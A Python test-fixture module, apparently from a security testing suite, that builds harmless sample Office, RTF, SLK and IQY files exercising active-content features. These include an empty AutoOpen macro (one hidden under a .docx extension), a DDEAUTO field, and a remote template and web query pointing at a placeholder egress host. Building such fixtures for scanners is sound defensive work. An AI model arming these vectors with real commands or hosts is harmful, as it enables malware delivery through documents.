"""Office documents that do more than be read (ECMA-376): nothing in them would hurt."""

from __future__ import annotations

from collections.abc import Mapping
from types import MappingProxyType

from attacks.strategies.archives import Member, zipped

HEAD = b'<?xml version="1.0"?>\n'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"  # MS-CFB, section 2.2
MACRO = b'Attribute VB_Name = "Gauntlet"\r\nSub AutoOpen()\r\nEnd Sub\r\n'
FIELD = b'<w:instrText>DDEAUTO gauntlet-no-such-program "a"</w:instrText>'
TEMPLATE = (
    b'<Relationships><Relationship Type="attachedTemplate" TargetMode="External" '
    b'Target="http://gauntlet-egress.invalid/a.dotm"/></Relationships>'
)


def office(*parts: tuple[bytes, bytes]) -> bytes:
    """Return a package of *parts*, given by name and data."""
    types = Member(name=b"[Content_Types].xml", data=HEAD + b"<Types/>")
    return zipped([types, *(Member(name=name, data=data) for name, data in parts)])


ACTING: Mapping[str, tuple[str, bytes]] = MappingProxyType(
    {
        "word-macro": ("docm", office((b"word/vbaProject.bin", OLE + MACRO))),
        "sheet-macro": ("xlsm", office((b"xl/vbaProject.bin", OLE + MACRO))),
        # the extension that promises that there is none
        "macro-as-docx": ("docx", office((b"word/vbaProject.bin", OLE + MACRO))),
        "data-exchange": ("docx", office((b"word/document.xml", HEAD + FIELD))),
        "remote-template": ("docx", office((b"word/_rels/settings.xml.rels", TEMPLATE))),
        "embedded-object": ("docx", office((b"word/embeddings/oleObject1.bin", OLE))),
        "old-sheet": ("xls", OLE + bytes(504) + MACRO),
        # a sheet of the fourth version, whose macros were cells
        "macro-sheet": ("xlsm", office((b"xl/macrosheets/sheet1.xml", HEAD + b"<a/>"))),
        "symbolic-link": ("slk", b'ID;P\nC;X1;Y1;K"=gauntlet|a!b"\nE\n'),
        "web-query": ("iqy", b"WEB\n1\nhttp://gauntlet-egress.invalid/\n"),
        "rich-text-object": (
            "rtf",
            b"{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata 0105}}}",
        ),
    }
)
"""By variant: extension and content."""
